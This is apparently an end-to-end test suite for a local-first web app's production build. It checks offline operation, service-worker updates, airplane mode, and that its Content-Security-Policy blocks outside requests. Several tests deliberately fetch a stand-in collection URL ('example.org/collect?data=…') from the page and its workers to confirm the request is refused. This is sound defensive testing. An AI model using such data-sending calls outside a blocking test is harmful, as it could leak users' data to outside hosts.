/**
 * @file What a workshop host deploys: the production build, served by `vite preview`, runs a
 * model from the model folder with onnxruntime-web's wasm bundled into the app's assets; after
 * one visit it starts with the network off (the demo project trains and evaluates), and a new
 * deployment is offered as an update. Nothing leaves the host, and the Content-Security-Policy
 * the build carries lets the whole flow run with no violation.
 */
import { startFakeLlmServer } from '../helpers/fake-llm-server';
import { appendFile, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { extname, join } from 'node:path';
import { build, preview, type PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IncomingMessage } from 'node:http';
import { BROKEN_ENCODER_ID, ENCODER_DIM } from '../fixtures/models';
import {
  addDemoProject,
  checkFixtureEncoder,
  evaluateStudents,
  trainNgramStudent,
  useModelFolder,
} from './helpers/steps';
import { openApp, type AppSession } from './helpers/chromium';
import { createTaskInUi, NEWS_TASK } from './helpers/tasks';
import { CONTENT_SECURITY_POLICY } from '../../tools/csp';
import { workerUrlFor } from '../../src/lib/domain/local-server';
import type { Page, Worker } from 'playwright-core';

let outDir: string;
let server: PreviewServer;
let app: AppSession;

/** What a request from a page or worker to `url` meets: its status, or the directive that refused it. */
function reach(url: string): Promise<string> {
  return new Promise<string>((resolve) => {
    self.addEventListener('securitypolicyviolation', (e) => resolve(`refused by ${e.effectiveDirective}`), {
      once: true,
    });
    fetch(url).then(
      (r) => resolve(String(r.status)),
      () => setTimeout(() => resolve('failed without a policy violation'), 500),
    );
  });
}

/**
 * Starts the built generation worker as the app does for a job on a server on this computer
 * (`server`: the origin its address names), or for any other job (null).
 */
async function generationWorkerFor(page: Page, base: string, server: string | null): Promise<Worker> {
  const script = (await readdir(join(outDir, 'assets'))).find((f) => /^generation\.worker-.*\.js$/.test(f));
  const url = workerUrlFor(`${base}/assets/${script}`, server);
  const before = new Set(page.workers());
  const started = page.waitForEvent('worker', { predicate: (w) => !before.has(w), timeout: 30_000 });
  await page.evaluate((u) => void new globalThis.Worker(u, { type: 'module', name: 'server-check' }), url);
  return started;
}

beforeAll(async () => {
  outDir = await mkdtemp(join(tmpdir(), 'polyclass-dist-'));
  await build({ configFile: 'vite.config.ts', logLevel: 'warn', build: { outDir, emptyOutDir: true } });
  server = await preview({
    configFile: 'vite.config.ts',
    logLevel: 'warn',
    build: { outDir },
    preview: { host: 'localhost', port: 0, strictPort: false },
  });
  const address = server.httpServer.address();
  if (!address || typeof address === 'string') throw new Error('preview server has no TCP address');
  app = await openApp('#/settings', `http://localhost:${address.port}`);
});

afterAll(async () => {
  await app?.close();
  await server?.close();
  if (outDir) await rm(outDir, { recursive: true, force: true });
});

describe('the production build', () => {
  it('bundles both onnxruntime-web runtimes (processor and WebGPU) as its own assets', async () => {
    const assets = await readdir(join(outDir, 'assets'));
    expect(assets.some((f) => /^ort-wasm-simd-threaded-.*\.wasm$/.test(f))).toBe(true);
    expect(assets.some((f) => /^ort-wasm-simd-threaded\.asyncify-.*\.wasm$/.test(f))).toBe(true);
    expect(assets.some((f) => /^encoder\.worker-.*\.js$/.test(f))).toBe(true);
  });

  it('is cross-origin isolated and embeds with a model from the model folder', async () => {
    const { page, baseURL } = app;
    expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
    await useModelFolder(page, baseURL);
    await page.goto(`${baseURL}/#/models`);
    expect(await checkFixtureEncoder(page)).toBe(String(ENCODER_DIM));
    const wasm = app.requests.filter((u) => u.endsWith('.wasm'));
    expect(wasm.length).toBeGreaterThan(0);
    for (const u of wasm) expect(new URL(u).origin).toBe(baseURL);
  });

  it('starts with no network after one visit: the demo project trains and evaluates offline', async () => {
    const { page, context, baseURL } = app;
    await page.goto(`${baseURL}/#/tasks`);
    // The service worker has cached the whole app shell (about 43 MB, most of it onnxruntime's wasm).
    await page.getByTestId('offline-ready').waitFor({ timeout: 90_000 });
    await context.setOffline(true);
    try {
      await page.reload();
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Tasks');
      // The network is off: an address no cache holds cannot be fetched. (navigator.onLine is no
      // witness: Chromium 156 reports true again after reloading a service-worker page offline.)
      expect(
        await page.evaluate(() =>
          fetch(`/not-cached-${Date.now()}.txt`).then(
            () => 'reached the server',
            () => 'offline',
          ),
        ),
      ).toBe('offline');
      expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
      await addDemoProject(page);
      await trainNgramStudent(page, baseURL);
      await evaluateStudents(page, baseURL);
      // The student's row (the demo's GPT-4 and GPT-3.5 answers are compared too).
      const student = page.getByTestId('compare-row').filter({ hasText: 'n-gram student' });
      expect(Number(await student.getByTestId('macro-f1').textContent())).toBeGreaterThan(30);
    } finally {
      await context.setOffline(false);
    }
  });

  it('sends nothing off this host, and runs under its Content-Security-Policy with no violation', async () => {
    const { page, baseURL, requests, errors } = app;
    await page.goto(`${baseURL}/#/tasks`);
    expect(
      await page.evaluate(
        () => document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content,
      ),
    ).toBe(CONTENT_SECURITY_POLICY);
    // The policy is in force: a request to any other host is refused before it leaves.
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
          fetch('https://example.org/collect?data=1').catch(() => undefined);
        }),
    );
    expect(blocked).toContain('https://example.org');
    const before = errors.length;
    // The whole flow ran above (model from the model folder, demo trained and evaluated);
    // generation and export too now.
    await createTaskInUi(page, baseURL, { ...NEWS_TASK, name: 'Private news', seeds: {} });
    await page.goto(`${baseURL}/#/generate`);
    await page.getByLabel(/Replay a recorded session/).check();
    await page.getByLabel('Recording address').fill('models/recordings/news.json');
    await page.getByLabel('Samples per label and language').fill('2');
    await page.getByRole('button', { name: 'Start generating' }).click();
    await expect
      .poll(() => page.getByTestId('gen-message').textContent(), { timeout: 90_000 })
      .toBe('Done: every label and language has its samples.');
    await page.goto(`${baseURL}/#/dataset`);
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'CSV', exact: true }).click();
    await downloading;
    // The built workers run under the policy too (they do not inherit the page's <meta>).
    const dataWorker = page.workers().find((w) => w.url().includes('data.worker'));
    expect(
      dataWorker,
      page
        .workers()
        .map((w) => w.url())
        .join(', '),
    ).toBeDefined();
    expect(
      await dataWorker?.evaluate(
        () =>
          new Promise<string>((resolve) => {
            self.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
            fetch('https://example.org/collect?data=2', { mode: 'no-cors' }).catch(() => undefined);
            setTimeout(() => resolve('no violation'), 3_000);
          }),
      ),
    ).toContain('https://example.org');

    const elsewhere = requests.filter(
      (u) => !u.startsWith(`${baseURL}/`) && !/^(data|blob):/.test(u) && !u.startsWith('https://example.org/'),
    );
    expect(elsewhere).toEqual([]);
    expect(errors.slice(before).filter((e) => /Content Security Policy|Refused to/i.test(e))).toEqual([]);
  });

  it('reaches an LLM server on this computer only from a worker started for it, and only at that origin', async () => {
    const { page, baseURL } = app;
    await page.goto(`${baseURL}/#/generate`);
    const [llm, other] = await Promise.all([startFakeLlmServer(), startFakeLlmServer()]);
    try {
      // The page itself reaches no server on this computer.
      expect(await page.evaluate(reach, `${llm.endpoint}/models`)).toBe('refused by connect-src');
      // A worker started for it reaches it, and nothing else on this computer: not another port,
      // not the same port under another name.
      const worker = await generationWorkerFor(page, baseURL, llm.origin);
      expect(await worker.evaluate(reach, `${llm.endpoint}/models`)).toBe('200');
      expect(await worker.evaluate(reach, `${other.endpoint}/models`)).toBe('refused by connect-src');
      const byName = llm.endpoint.replace('127.0.0.1', 'localhost');
      expect(await worker.evaluate(reach, `${byName}/models`)).toBe('refused by connect-src');
      // A worker started for nothing reaches nothing on this computer.
      const plain = await generationWorkerFor(page, baseURL, null);
      expect(await plain.evaluate(reach, `${llm.endpoint}/models`)).toBe('refused by connect-src');
      // A worker address naming a server elsewhere gets the base policy.
      const elsewhere = await generationWorkerFor(page, baseURL, 'https://example.org');
      expect(await elsewhere.evaluate(reach, 'https://example.org/models')).toBe('refused by connect-src');
    } finally {
      await Promise.all([llm.close(), other.close()]);
    }
  });

  it('in airplane mode refuses every request, its workers’ too, says so, and still works', async () => {
    const { page, baseURL } = app;
    // The models needed are cached first (as the setting's note asks).
    await useModelFolder(page, baseURL);
    await page.goto(`${baseURL}/#/models`);
    expect(await checkFixtureEncoder(page)).toBe(String(ENCODER_DIM));
    await page.goto(`${baseURL}/#/settings`);
    // The installed app: its service worker is active and controls the page.
    await page.evaluate(async () => void (await navigator.serviceWorker.ready));
    if (!(await page.evaluate(() => Boolean(navigator.serviceWorker.controller)))) await page.reload();
    expect(await page.evaluate(() => Boolean(navigator.serviceWorker.controller))).toBe(true);
    const hits: string[] = [];
    const count = (req: IncomingMessage) => void hits.push(req.url ?? '');
    server.httpServer.on('request', count);
    try {
      await page.getByTestId('airplane').getByLabel('Block every network request').check();
      await page.getByTestId('airplane-status').filter({ hasText: 'On: nothing goes to the network' }).waitFor();
      hits.length = 0;
      // The page: a file of this very host, in no cache.
      expect(await page.evaluate(async () => (await fetch('models/not-cached.json')).status)).toBe(503);
      // An LLM server on this computer (another origin) stays reachable from a worker started for
      // it: nothing leaves the device.
      const llm = await startFakeLlmServer();
      try {
        const worker = await generationWorkerFor(page, baseURL, llm.origin);
        expect(await worker.evaluate(reach, `${llm.endpoint}/models`)).toBe('200');
      } finally {
        await llm.close();
      }
      // A worker: an embedding model that is not in the browser's cache does not load.
      await page.goto(`${baseURL}/#/models`);
      const panel = page.getByTestId('model-check');
      await panel.getByLabel('Model id').fill(BROKEN_ENCODER_ID);
      await panel.getByLabel('Device').selectOption('wasm');
      await panel.getByRole('button', { name: 'Load and embed' }).click();
      await panel.getByRole('alert').waitFor({ timeout: 60_000 });
      // The failure names airplane mode, not the library's "Service unavailable", and links to the fix.
      const alert = panel.getByRole('alert');
      expect(await alert.textContent()).toContain('When airplane mode is on, polyclass downloads nothing');
      expect(await alert.getByRole('link', { name: 'Airplane mode (Settings)' }).getAttribute('href')).toBe(
        '#/settings',
      );
      // The app still starts and works: the shell, onnxruntime and the cached encoder come from storage.
      await page.reload();
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe('Models & storage');
      expect(await checkFixtureEncoder(page)).toBe(String(ENCODER_DIM));
      await page.goto(`${baseURL}/#/tasks`);
      // (When this test runs alone, the profile has no task yet.)
      if (await page.getByTestId('demo-offer').isVisible()) await addDemoProject(page);
      await trainNgramStudent(page, baseURL);
      const indicator = page.getByTestId('airplane-indicator');
      await expect.poll(() => indicator.textContent()).toMatch(/Airplane mode · \d+ blocked/);
      await page.goto(`${baseURL}/#/settings`);
      const refused = await page.getByTestId('airplane-blocked').locator('li').allTextContents();
      expect(refused.some((u) => u.endsWith('/models/not-cached.json'))).toBe(true);
      expect(refused.some((u) => u.includes('127.0.0.1'))).toBe(false);
      expect(refused.some((u) => u.includes(`/models/${BROKEN_ENCODER_ID}/`))).toBe(true);
      // Not one request of the app reached the host while airplane mode was on. The browser's
      // own check for a new version of the service worker (its scripts, on navigation) is not
      // the app's and cannot be intercepted; it carries nothing of the user's.
      const browserUpdateCheck = /^\/(sw|airplane-sw|csp-policy|workbox-[\w-]+)\.js$/;
      expect(hits.filter((u) => !browserUpdateCheck.test(u))).toEqual([]);

      await page.getByTestId('airplane').getByLabel('Block every network request').uncheck();
      await expect.poll(() => page.getByTestId('airplane-indicator').count()).toBe(0);
      expect(await page.evaluate(async () => (await fetch('models/not-cached.json')).status)).toBe(404);
      expect(hits).toContain('/models/not-cached.json');
    } finally {
      server.httpServer.off('request', count);
    }
  });

  it('offers a newly deployed version as an update, applied when the user chooses', async () => {
    const { page, baseURL } = app;
    // A new deployment: the service worker script changes.
    await appendFile(join(outDir, 'sw.js'), '\n// a new deployment\n');
    await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
    const banner = page.getByTestId('update-available');
    await banner.waitFor({ timeout: 60_000 });
    expect(await banner.textContent()).toContain('A new version of polyclass is available');
    await Promise.all([page.waitForEvent('load'), banner.getByRole('button', { name: 'Reload now' }).click()]);
    await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBeTruthy();
    expect(await page.getByTestId('update-available').count()).toBe(0);
    expect(page.url().startsWith(baseURL)).toBe(true);
  });

  it('runs an installed app’s workers under the policy on a host that sends no headers at all', async () => {
    // A plain static server: files with their types, no Content-Security-Policy (nor isolation).
    const types: Record<string, string> = {
      '.html': 'text/html',
      '.js': 'text/javascript',
      '.mjs': 'text/javascript',
      '.css': 'text/css',
      '.wasm': 'application/wasm',
      '.json': 'application/json',
      '.webmanifest': 'application/manifest+json',
      '.svg': 'image/svg+xml',
    };
    const plain = createServer((req, res) => {
      const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
      const file = join(outDir, path === '/' ? 'index.html' : path);
      readFile(file).then(
        (body) => {
          res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' });
          res.end(body);
        },
        () => {
          res.writeHead(404);
          res.end();
        },
      );
    });
    await new Promise<void>((done) => plain.listen(0, 'localhost', done));
    const address = plain.address();
    if (!address || typeof address === 'string') throw new Error('no TCP address');
    const installed = await openApp('#/tasks', `http://localhost:${address.port}`);
    const dataWorkerLeaks = async () => {
      await installed.page.goto(`http://localhost:${address.port}/#/models`);
      const worker = await expect
        .poll(() => installed.page.workers().find((w) => w.url().includes('data.worker')), { timeout: 30_000 })
        .toBeDefined()
        .then(() => installed.page.workers().find((w) => w.url().includes('data.worker')));
      return worker?.evaluate(
        () =>
          new Promise<string>((resolve) => {
            self.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), { once: true });
            fetch('https://example.org/collect?data=3', { mode: 'no-cors' }).catch(() => undefined);
            setTimeout(() => resolve('no violation'), 3_000);
          }),
      );
    };
    try {
      // First visit, before the service worker serves anything: this host's worker has no policy.
      expect(await dataWorkerLeaks()).toBe('no violation');
      await installed.page.getByTestId('offline-ready').waitFor({ timeout: 90_000 });
      // Installed: the service worker serves the worker script, with the policy.
      await installed.page.reload();
      expect(await installed.page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
      expect(await dataWorkerLeaks()).toContain('https://example.org');
      // A worker started for an LLM server on this computer gets exactly that origin from the
      // service worker's copy of the policy.
      const [llm, other] = await Promise.all([startFakeLlmServer(), startFakeLlmServer()]);
      try {
        const worker = await generationWorkerFor(installed.page, `http://localhost:${address.port}`, llm.origin);
        expect(await worker.evaluate(reach, `${llm.endpoint}/models`)).toBe('200');
        expect(await worker.evaluate(reach, `${other.endpoint}/models`)).toBe('refused by connect-src');
      } finally {
        await Promise.all([llm.close(), other.close()]);
      }
    } finally {
      await installed.close();
      await new Promise((done) => plain.close(done));
    }
  });
});
